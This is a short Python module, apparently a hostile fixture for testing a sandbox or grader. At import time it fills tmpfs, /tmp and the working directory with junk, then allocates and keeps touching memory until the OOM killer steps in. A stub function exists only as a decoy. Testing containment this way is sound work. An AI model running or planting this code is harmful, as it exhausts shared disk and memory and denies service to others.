"""Hostile: fill the tmpfs mounts (charged to the container's memory cgroup, invisible to
RLIMIT_AS), then allocate: only the kernel's OOM killer can stop it. Runs at import time."""

import os

chunk = b"\xff" * (1 << 20)
for folder in ("/dev/shm", "/tmp", os.getcwd()):
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            while True:
                f.write(chunk)
                f.flush()
    except OSError:
        pass
hoard = []
while True:
    try:
        hoard.append(bytearray(b"\x01") * (8 << 20))
    except MemoryError:
        break
# Address space is exhausted but memory is not: keep touching what we hold.
while True:
    for block in hoard:
        block[::4096] = b"\x02" * len(block[::4096])


def orbax_load_simulate(seed, x, features):
    raise AssertionError("unreachable")
